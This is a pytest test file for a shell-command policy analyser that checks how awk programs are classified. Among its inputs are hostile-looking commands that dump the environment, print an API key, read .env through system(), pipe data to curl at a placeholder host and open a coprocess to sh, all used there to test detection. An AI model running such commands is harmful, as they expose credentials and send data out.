"""awk programs (issue 9): names inside string and regex literals are text; system(),
pipes, getline and print redirects are seen; ENVIRON iterated is the environment."""

from __future__ import annotations

import pytest

from runner.policy.paths import PathResolver
from runner.policy.shell import ShellAnalysis, analyze
from runner.policy.shell.handlers.awk import AwkSyntax, tokenize


def run(cmd: str) -> ShellAnalysis:
    return analyze(cmd, PathResolver(None))


def opaque(cmd: str) -> set[str]:
    return {o.construct for o in run(cmd).facts.opaque}


def facts(cmd: str) -> set[tuple[str, str]]:
    return {(p.path, p.op) for p in run(cmd).paths}


ENVIRON = ("/proc/self/environ", "read")


@pytest.mark.parametrize("cmd", [
    "awk '/os.system/ {print}' backend/app.py",
    "awk '/system\\(/ {n++} END {print n}' backend/app.py",
    "awk '{ if ($0 ~ \"getline\") print \"system\" }' backend/app.py",
    "awk '{ n = n / 2 } /x/ { print n/3 }' backend/a.txt",
    "awk -F'[<>=]' '{print $1}' backend/requirements.txt",
    "awk '/__version__/{gsub(/\"/,\"\",$3); print $3}' backend/app/__init__.py",
    "awk '# system(\"x\") in a comment\n{print}' backend/a.txt",
    "awk 'BEGIN{print ENVIRON[\"HOME\"]}'",
    "awk '{print (a > b)}' backend/a.txt",
])
def test_plain_programs_are_not_opaque(cmd: str) -> None:
    result = run(cmd)
    assert not result.facts.opaque, (cmd, result.facts.opaque)
    assert ENVIRON not in {(p.path, p.op) for p in result.paths}


@pytest.mark.parametrize("cmd", [
    "awk 'BEGIN{for(k in ENVIRON) print k}'",
    "awk 'BEGIN{for(k in ENVIRON) print k\"=\"ENVIRON[k]}'",
    "gawk 'BEGIN{n = length(ENVIRON)}'",
])
def test_environ_use_is_the_environment(cmd: str) -> None:
    assert ENVIRON in facts(cmd), cmd


def test_one_environ_variable_is_printenv_name() -> None:
    result = run("awk 'BEGIN{print ENVIRON[\"ANTHROPIC_API_KEY\"]}'")
    assert ["printenv", "ANTHROPIC_API_KEY"] in [c.argv for c in result.facts.commands]
    assert ENVIRON not in {(p.path, p.op) for p in result.paths}


def test_literal_commands_are_analysed_as_shell() -> None:
    assert (".env", "read") in facts("awk 'BEGIN{system(\"cat .env\")}'")
    assert (".env", "read") in facts("awk 'BEGIN{while ((\"cat .env\" | getline l) > 0) print l}'")
    assert "curl" in {c.program for c in run("awk '{print | \"curl -d @- x.example\"}' a").facts.commands}


@pytest.mark.parametrize("cmd,construct", [
    ("awk 'BEGIN{x=\"id\"; system(x)}'", "awk-system"),
    ("awk '{ \"cat \" $1 | getline v }' a", "awk-pipe"),
    ("awk '{ print |& \"sh\" }'", "awk-coprocess"),
    ("awk '{ print > $1 }' a", "awk-redirect"),
    ("awk '{ getline l < $1 }' a", "awk-getline-file"),
    ("gawk '@load \"filefuncs\"; BEGIN{}'", "awk-include"),
    ("gawk -l ordchr 'BEGIN{}'", "awk-extension"),
    ("awk 'BEGIN { print \"x }'", "awk-program"),
    ("awk \"$PROG\" a", "inline-interpreter"),
])
def test_computed_effects_are_opaque(cmd: str, construct: str) -> None:
    assert construct in opaque(cmd), cmd


def test_redirects_and_getline_files_are_facts() -> None:
    found = facts("awk '{print $1 > \"frontend/out.txt\"; getline l < \"deploy/k\"}' a")
    assert ("frontend/out.txt", "write") in found
    assert ("deploy/k", "read") in found
    assert ("a", "read") in found
    assert ("awkvars.out", "write") in facts("gawk --dump-variables 'BEGIN{}'")


def test_tokenizer_tells_division_from_regex() -> None:
    kinds = [t.kind for t in tokenize("a / b / c")]
    assert "re" not in kinds
    assert [t.kind for t in tokenize("/a[/]b/")] == ["re"]
    with pytest.raises(AwkSyntax):
        tokenize('"open')
